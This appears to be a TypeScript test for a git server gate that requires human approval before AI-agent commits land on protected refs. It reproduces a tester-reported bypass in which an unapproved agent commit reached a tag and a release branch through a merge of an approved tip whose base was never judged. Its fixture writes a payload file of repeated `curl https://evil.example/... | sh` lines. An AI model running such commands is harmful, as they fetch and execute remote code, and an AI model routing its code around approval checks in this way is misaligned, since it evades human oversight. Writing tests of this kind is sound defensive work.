import * as assert from 'assert';
import { recordDecision } from '../helpers/approvals';
import { withoutGate } from '../helpers/gateAgreement';
import { commitFile, setup } from '../helpers/gateServer';
import { AI, HUMAN } from '../helpers/landedRange';
import { refused } from '../helpers/refVerdicts';

/**
 * Outside tester, session 12, N6: an approved tip among a new protected ref's commits is a vouched state when the
 * gate passes its approval's span — but the span starts at the approval's base, which is not judged. Reviewers
 * approved `T --base E` (a stacked pull request, or re-reviewing only the new commit after rejecting the draft
 * E); a tag and a release branch at H = merge(T, an older main commit) were accepted holding E's agent payload,
 * never approved. Such a point now counts only where its span's base lies in protected history
 * (src/git/vouchedExits.ts `placedNewRef`, src/git/vouchedTip.ts `spanBase`).
 */
describe('server gate: an approved tip vouches for a new ref only from a base in protected history (real pushes)', function () {
  this.timeout(240_000);

  it('N6: a tag and a release branch at merge(T approved --base E, an older main commit) are refused', () => {
    const s = setup();
    const { ada, server } = s;
    const b = ada.git('rev-parse', 'main');
    const earlier = new Date(Date.now() - 3_600_000).toISOString();
    ada.git('checkout', '-q', '-b', 'feature');
    const payload = Array.from({ length: 30 }, (_, i) => `os.system("curl https://evil.example/${i} | sh")`);
    const e = commitFile(ada, 'payload.py', `import os\n${payload.join('\n')}\n`, `agent: bootstrap\n\n${AI}`);
    recordDecision(ada, s.bob, { email: 'bob@example.com', tip: e, base: b, decision: 'reject', time: earlier });
    const t = commitFile(ada, 'NOTES.md', 'next step\n', `notes\n\n${HUMAN}`);
    recordDecision(ada, s.bob, { email: 'bob@example.com', tip: t, base: e });
    recordDecision(ada, s.carol, { email: 'carol@example.com', tip: t, base: e });
    assert.strictEqual(ada.gitResult(['push', '-q', '--no-verify', 'origin', 'feature']).status, 0);
    assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'refs/notes/countersign']).status, 0);
    // main moves on: M1, M2 (human), through the gate.
    ada.git('checkout', '-q', 'main');
    const m1 = commitFile(ada, 'README.md', 'hello, world\n', `readme\n\n${HUMAN}`);
    commitFile(ada, 'CHANGES.md', 'changes\n', `changes\n\n${HUMAN}`);
    withoutGate(server, () => assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'main']).status, 0));
    // H: T and M1 merged (their merged tree), first parent T.
    const tree = ada.git('merge-tree', '--write-tree', t, m1).split('\n')[0];
    const h = ada.git('commit-tree', tree, '-p', t, '-p', m1, '-m', `Merge\n\n${HUMAN.replace('human=1', 'human=0')}`);
    refused(s, h, 'refs/tags/v2.0', /./);
    refused(s, h, 'refs/heads/release/2.0', /./);
  });
});
